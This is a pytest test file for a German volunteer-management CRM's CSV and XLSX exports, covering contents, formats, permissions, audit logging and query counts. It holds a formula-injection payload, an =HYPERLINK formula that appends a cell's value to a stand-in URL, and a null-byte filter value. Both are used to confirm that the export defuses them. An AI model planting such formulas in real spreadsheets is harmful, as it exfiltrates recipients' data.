"""Exports of the lists through HTTP: the rows the list shows across all its pages, in every
format, read back as Excel and programs read them; who may export, what is recorded, and a
fixed number of statements per batch of rows."""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from html import unescape
from urllib.parse import quote

import openpyxl
import pytest
from sqlalchemy import select

from crm import tabular
from crm.extensions import db
from crm.models import AuditEntry, ContactRole
from crm.models.choices import AssignmentStatus, OrganisationKind, Salutation, VolunteerStatus
from crm.views import exporting
from crm.views.exporting import attachment
from tests import factories as make
from tests.helpers import LIST_ENDPOINTS, counted_queries
from tests.test_crud import filter_args

TODAY = date.today().isoformat()
ROW = re.compile(r'name="rowid"[^>]*value="\d+".*?</tr>', re.S)
CELL = re.compile(r"<td>([^<]*)</td>")
HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"Klick")'


@pytest.fixture
def county(ctx):
    """45 contacts (more than two pages), some named Müller, with current and ended functions,
    tags and places; organisations, volunteers and assignments."""
    news, press = make.tag(name="Newsletter"), make.tag(name="Presse")
    mainz, dorf = make.municipality(name="Mainz"), make.municipality(name="Oberdorf")
    caritas = make.organisation(
        name="Caritas Mainz", postcode="01234", phone="+49 6131 12345", tags=[news], city="Mainz"
    )
    amt = make.organisation(
        name="Ausländeramt", kind=OrganisationKind.AUTHORITY, municipality=mainz, city="Mainz"
    )
    people = []
    for n in range(45):
        person = make.contact(
            salutation=Salutation.MS if n % 2 else Salutation.MR,
            first_name=f"Vorname{n:02}",
            last_name="Müller" if n % 3 == 0 else f"Name{n:02}",
            email=f"person{n:02}@example.org",
            phone=f"0613{n % 10} 4711{n:02}",
            postcode=f"0{n:04}",
            municipality=mainz if n % 4 else dorf,
            tags=[news] if n % 2 else [press],
            roles=[(caritas, "Beratung")] if n % 5 == 0 else (),
        )
        people.append(person)
    people[0].roles.append(ContactRole(organisation=amt, function="Alt", until=date(2020, 1, 1)))
    people[0].first_name = HOSTILE
    people[0].phone = "+49 6131 12345"
    db.session.commit()
    guides = [
        make.volunteer(
            contact=people[n],
            status=VolunteerStatus.ACTIVE if n % 2 else VolunteerStatus.PAUSED,
            hours_per_month=n,
            active_since=date(2024, 1, 1 + n),
            languages=[make.language("ar")],
        )
        for n in range(25)
    ]
    family = make.newcomer(reference="F-001")
    for n, guide in enumerate(guides):
        make.assignment(
            volunteer=guide,
            newcomer=family,
            status=AssignmentStatus.OPEN if n % 3 else AssignmentStatus.RUNNING,
            starts_on=date(2025, 3, 1 + n),
            requested_by_organisation=caritas,
        )
    return {"people": people, "news": news, "mainz": mainz, "caritas": caritas}


def shown_rows(browser, endpoint: str, query: str) -> list[list[str]]:
    """The text cells of every row the list shows, page by page."""
    rows, page = [], 0
    while True:
        html = browser.get(f"/admin/{endpoint}/?{query}&page={page}").get_data(as_text=True)
        found = [[unescape(c) for c in CELL.findall(row)] for row in ROW.findall(html)]
        if not found:
            return rows
        rows.extend(found)
        page += 1


def exported(browser, endpoint: str, export_type: str, query: str = ""):
    response = browser.get(f"/admin/{endpoint}/export/{export_type}/?{query}")
    assert response.status_code == 200, response.data[:300]
    return response


def excel_csv(response) -> list[dict]:
    """The Excel CSV as Excel reads it: ="..." is the text inside."""
    text = response.data.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    return [{k: re.sub(r'^="(.*)"$', r"\1", v) for k, v in row.items()} for row in rows]


def xlsx_rows(response) -> list[dict]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def query_of(browser, endpoint: str, filters: dict, rest: str) -> str:
    """A list's URL arguments: filters by (label, operation), then search and sort."""
    args = filter_args(browser.get(f"/admin/{endpoint}/").get_data(as_text=True))
    parts = [f"flt{i}_{quote(args[key])}={value}" for i, (key, value) in enumerate(filters.items())]
    return "&".join([*parts, rest])


# Per list: combinations of filters (by label and operation), search and sort; the list's
# columns that the file holds too (list position: file header); a field of each row to
# compare with the database.
CASES = {
    "contact": (
        [
            ({}, "search=müller&sort=2&desc=1"),
            ({("Schlagworte", "enthält"): "news"}, "search=name&sort=4"),
            ({("Kommune", "ist"): "mainz", ("Schlagworte", "enthält"): "news"}, "sort=2&desc=1"),
            ({}, ""),
        ],
        {0: "Nachname", 1: "Vorname", 2: "E-Mail", 3: "Telefon", 4: "Kommune", 6: "Schlagworte"},
    ),
    "organisation": (
        [({}, "search=mainz&sort=0&desc=1"), ({("Art", "ist"): "behoerde"}, "")],
        {0: "Name", 2: "Kommune", 3: "Ort", 4: "Telefon", 6: "Schlagworte"},
    ),
    "volunteer": (
        [({("Status", "ist"): "aktiv"}, "sort=4&desc=1"), ({}, "search=müller&sort=0")],
        {0: "Kontakt", 1: "Status", 2: "Sprachkenntnisse", 4: "Stunden pro Monat"},
    ),
    "assignment": (
        [({("Status", "ist"): "laufend"}, "search=müller&sort=3"), ({}, "sort=5&desc=1")],
        {0: "Bereich", 2: "Ehrenamtliche/r", 3: "Begleitete Person", 4: "Status"},
    ),
}


def as_shown(value) -> str:
    """A value of a file as the list shows it (a text neutralised as a formula by its ')."""
    if isinstance(value, datetime):
        return value.strftime("%d.%m.%Y")
    text = "" if value is None else str(value)
    return text[1:] if text.startswith("'=") else text


def file_rows(browser, endpoint: str, query: str) -> dict[str, list[dict]]:
    """The rows of each format's file, as dicts by header."""
    utf8 = exported(browser, endpoint, "csv-utf8", query).get_data(as_text=True)
    return {
        "csv": excel_csv(exported(browser, endpoint, "csv", query)),
        "csv-utf8": list(csv.DictReader(io.StringIO(utf8, newline=""))),
        "xlsx": xlsx_rows(exported(browser, endpoint, "xlsx", query)),
    }


@pytest.mark.parametrize("endpoint", list(CASES))
def test_every_format_holds_what_the_list_shows_across_its_pages(browser, county, endpoint):
    combinations, shared = CASES[endpoint]
    ids = {"mainz": county["mainz"].id, "news": county["news"].id}
    for filters, rest in combinations:
        filters = {key: ids.get(value, value) for key, value in filters.items()}
        query = query_of(browser, endpoint, filters, rest)
        shown = [[row[i] for i in shared] for row in shown_rows(browser, endpoint, query)]
        assert shown, query
        for export_type, rows in file_rows(browser, endpoint, query).items():
            cells = [[as_shown(row[header]) for header in shared.values()] for row in rows]
            assert cells == shown, (export_type, query)


def test_contacts_carry_what_a_mailing_needs(browser, county):
    person = county["people"][5]
    rows = excel_csv(exported(browser, "contact", "csv", "search=Name05"))
    assert rows == [
        {
            "Anrede": "Frau",
            "Titel": "",
            "Vorname": "Vorname05",
            "Nachname": "Name05",
            "Organisation": "Caritas Mainz",
            "Funktion": "Beratung",
            "Straße": "",
            "PLZ": "00005",
            "Ort": "",
            "Kommune": "Mainz",
            "E-Mail": person.email,
            "Telefon": "06135 471105",
            "Mobil": "",
            "Schlagworte": "Newsletter",
            "Post erlaubt": "nein",
            "E-Mail erlaubt": "nein",
            "Keine Kontaktaufnahme": "nein",
        }
    ]
    # An ended function is not today's: only the current one is named.
    first = excel_csv(exported(browser, "contact", "csv", "search=person00@example.org"))
    assert [(r["Organisation"], r["Funktion"]) for r in first] == [("Caritas Mainz", "Beratung")]


def test_the_files_match_the_database(browser, county):
    """Every contact tagged Newsletter in Mainz, and no other, in the list's order."""
    news, mainz = county["news"], county["mainz"]
    query = query_of(
        browser, "contact", {("Kommune", "ist"): mainz.id, ("Schlagworte", "enthält"): news.id}, ""
    )
    expected = sorted(
        (p for p in county["people"] if p.municipality == mainz and news in p.tags),
        key=lambda p: (p.last_name, p.first_name),
    )
    rows = xlsx_rows(exported(browser, "contact", "xlsx", query))
    assert [r["E-Mail"] for r in rows] == [p.email for p in expected]
    assert len(rows) > 20


def test_excel_csv_bytes_bom_separators_and_line_ends(browser, county):
    data = exported(browser, "contact", "csv", "search=Name05").data
    assert data.startswith("\ufeffAnrede;Titel;Vorname;Nachname;Organisation;".encode())
    assert data.count(b"\r\n") == 2 and data.endswith(b"\r\n")
    assert b';"=""00005""";' in data  # the postcode as text, its zeros kept
    plain = exported(browser, "contact", "csv-utf8", "search=Name05").data
    assert plain.startswith(b"Anrede,Titel,Vorname,Nachname,Organisation,")
    assert b",00005," in plain


def test_no_formula_runs_and_phone_numbers_stay(browser, county):
    person = county["people"][0]
    query = f"search={person.email}"
    row = excel_csv(exported(browser, "contact", "csv", query))[0]
    assert row["Vorname"] == "'" + HOSTILE
    assert row["Telefon"] == "+49 6131 12345"
    response = exported(browser, "contact", "xlsx", query)
    row = xlsx_rows(response)[0]
    assert row["Vorname"] == "'" + HOSTILE
    assert row["Telefon"] == "+49 6131 12345"
    assert row["PLZ"] == "00000"
    sheet = zipfile.ZipFile(io.BytesIO(response.data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_xlsx_types_dates_and_numbers(browser, county):
    rows = xlsx_rows(exported(browser, "volunteer", "xlsx", "sort=4"))
    assert rows[0]["Aktiv seit"] == datetime(2024, 1, 1)
    assert rows[-1]["Stunden pro Monat"] == 24 and isinstance(rows[-1]["Stunden pro Monat"], int)
    sheet = openpyxl.load_workbook(io.BytesIO(exported(browser, "assignment", "xlsx").data)).active
    dates = [c for c in sheet["H"][1:] if c.value is not None]
    assert dates and all(c.is_date and c.number_format == "dd\\.mm\\.yyyy" for c in dates)
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.b


def test_file_names_carry_the_list_and_the_date(browser, county):
    for endpoint, export_type, name in (
        ("contact", "csv", f"Kontakte_{TODAY}.csv"),
        ("volunteer", "xlsx", f"Ehrenamtliche_{TODAY}.xlsx"),
        ("newcomer", "csv-utf8", f"Begleitete_Personen_{TODAY}.csv"),
    ):
        response = exported(browser, endpoint, export_type)
        assert response.headers["Content-Disposition"] == (
            f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
        )
    xlsx = exported(browser, "contact", "xlsx")
    assert xlsx.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert exported(browser, "contact", "csv").mimetype == "text/csv"
    assert attachment("Schulungsübersicht Süd_2026-12-02.csv") == (
        'attachment; filename="Schulungsuebersicht_Sued_2026-12-02.csv"; '
        "filename*=UTF-8''Schulungs%C3%BCbersicht_S%C3%BCd_2026-12-02.csv"
    )


def test_every_export_is_recorded_when_the_download_ends(browser, county):
    query = query_of(browser, "contact", {("Schlagworte", "enthält"): county["news"].id}, "")
    response = exported(browser, "contact", "xlsx", f"{query}&search=müller&sort=0&desc=1")
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).one()
    assert entry.table == "contacts" and entry.user_id is not None
    assert entry.changes == {
        "format": "xlsx",
        "search": "müller",
        "filters": [["schlagworte_enthält", str(county["news"].id)]],
        "sort": ["last_name", True],
        "rows": len(xlsx_rows(response)),
        "complete": True,
    }


def test_a_download_broken_off_is_recorded_with_its_rows_so_far(browser, county, monkeypatch):
    monkeypatch.setattr(exporting, "BATCH", 10)
    monkeypatch.setattr(tabular, "ROWS_PER_CHUNK", 5)
    response = browser.client.get("/admin/contact/export/csv/")
    pieces = iter(response.response)
    next(pieces), next(pieces)
    response.close()
    entry = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).one()
    assert entry.changes["complete"] is False and 0 < entry.changes["rows"] < 45


@pytest.mark.parametrize("endpoint", LIST_ENDPOINTS)
def test_viewers_get_no_menu_and_no_file(login_as, endpoint):
    viewer = login_as("viewer")
    page = viewer.get(f"/admin/{endpoint}/").get_data(as_text=True)
    assert "export-menu" not in page and "/export/" not in page
    for export_type in (*exporting.FORMATS, "pdf"):
        assert viewer.get(f"/admin/{endpoint}/export/{export_type}/").status_code == 403
    assert not db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()


def test_coordinators_get_the_menu_and_admins_no_user_export(login_as):
    page = login_as("coordinator").get("/admin/contact/").get_data(as_text=True)
    menu = re.search(r'export-menu">(.*?)</div>', page, re.S).group(1)
    assert re.findall(r'href="([^"]+)">([^<]+)<', menu) == [
        ("/admin/contact/export/csv/", "CSV (Excel)"),
        ("/admin/contact/export/csv-utf8/", "CSV (UTF-8)"),
        ("/admin/contact/export/xlsx/", "XLSX"),
    ]
    admin = login_as("admin")
    assert "export-menu" not in admin.get("/admin/user/").get_data(as_text=True)
    assert admin.get("/admin/user/export/csv/").status_code == 403
    assert admin.get("/admin/contact/export/csv/").status_code == 200


def test_exports_need_a_login(ctx):
    response = ctx.test_client().get("/admin/contact/export/csv/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_the_menu_keeps_the_lists_search_filters_and_sort(browser, county):
    query = query_of(browser, "contact", {("Schlagworte", "enthält"): county["news"].id}, "")
    page = browser.get(f"/admin/contact/?{query}&search=müller&sort=0&desc=1").get_data(
        as_text=True
    )
    link = unescape(re.search(r'href="(/admin/contact/export/xlsx/[^"]*)"', page).group(1))
    assert "search=m%C3%BCller" in link and "sort=0" in link and "desc=1" in link
    assert f"={county['news'].id}" in link


@pytest.mark.parametrize(
    "url",
    [
        "/admin/contact/export/pdf/",
        "/admin/contact/export/csv/?flt0_kommune_ist=keine-zahl",
        "/admin/contact/export/xlsx/?flt0_kommune_ist=99999999999",
        "/admin/contact/export/csv/?flt0_gibt_es_nicht=1",
        "/admin/contact/export/csv/?flt0_kommune_ist=1%00",
    ],
)
def test_bad_input_is_refused_in_german_and_exports_nothing(browser, county, url):
    response = browser.get(url)
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/admin/contact/")
    page = browser.get(response.headers["Location"]).get_data(as_text=True)
    assert "Dieses Exportformat gibt es nicht." in page or "nichts exportiert" in page
    assert not db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export")).all()


@pytest.mark.parametrize("export_type", list(exporting.FORMATS))
def test_a_search_without_matches_gives_the_header_alone(browser, county, export_type):
    response = exported(browser, "contact", export_type, "search=gibtesnicht&sort=99")
    if export_type == "xlsx":
        assert xlsx_rows(response) == []
    else:
        assert response.data.decode("utf-8-sig").count("\r\n") == 1


def test_xlsx_refuses_more_rows_than_excel_holds(browser, county, monkeypatch):
    monkeypatch.setattr(exporting, "EXCEL_ROWS", 45)
    response = browser.get("/admin/contact/export/xlsx/")
    assert response.status_code == 302
    page = browser.get(response.headers["Location"]).get_data(as_text=True)
    assert "passen nicht in ein Excel-Blatt" in page and "bitte die Liste filtern" in page
    assert exported(browser, "contact", "xlsx", "search=müller").status_code == 200


# Statements of each batch of rows: their related names (crm.relatedtexts), and a
# volunteer's language skills and areas. Beyond them, a fixed few: the user, the rows (one
# statement run once, read in batches), the history entry, what planning the list query
# asks (crm.lists), for XLSX the count against Excel's limit.
PER_BATCH = {"contact": 1, "organisation": 1, "volunteer": 3, "assignment": 1}
SEARCHES = {"organisation": ("caritas", "mainz")}


@pytest.mark.parametrize("endpoint", list(PER_BATCH))
def test_statements_per_batch_whatever_the_size(browser, county, monkeypatch, endpoint):
    monkeypatch.setattr(exporting, "BATCH", 4)
    for export_type in ("csv", "xlsx"):
        beyond_batches = {}
        for search in SEARCHES.get(endpoint, ("müller", "vorname")):
            with counted_queries() as statements:
                response = exported(browser, endpoint, export_type, f"search={search}")
            rows = len(xlsx_rows(response) if export_type == "xlsx" else excel_csv(response))
            batches = max(1, -(-rows // 4))
            beyond_batches[rows] = len(statements) - batches * PER_BATCH[endpoint]
        assert len(beyond_batches) == 2, beyond_batches
        assert len(set(beyond_batches.values())) == 1, (export_type, beyond_batches)
        assert next(iter(beyond_batches.values())) <= 5
